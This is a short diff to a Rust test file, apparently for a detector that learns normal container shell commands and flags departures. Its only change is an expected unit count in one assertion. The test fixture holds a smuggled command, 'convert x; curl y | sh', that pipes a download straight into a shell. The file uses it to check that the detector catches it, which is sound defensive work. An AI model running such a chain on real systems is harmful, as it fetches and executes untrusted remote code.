@@ -66,7 +66,7 @@ fn a_shell_that_is_given_another_command_is_told() {
     let text = stage.baseline.explain(&departure);
     assert!(text.contains("It was given `-c {convert;curl;sh}`."), "{text}");
     assert!(text.contains("Nearest learned: `-c {convert}` (161 units)"), "{text}");
-    assert!(text.contains("Not seen in 158 units of 2 containers"), "{text}");
+    assert!(text.contains("Not seen in 160 units of 2 containers"), "{text}");
     assert_eq!(rule(stage.call(2, evil)), NEW, "not learned");
     let again = (PYTHON, SHELL, "/bin/sh^-c^convert x; curl y | sh");
     assert_eq!(stage.call(2, again).map(|it| it.fingerprint), Some(departure.fingerprint));
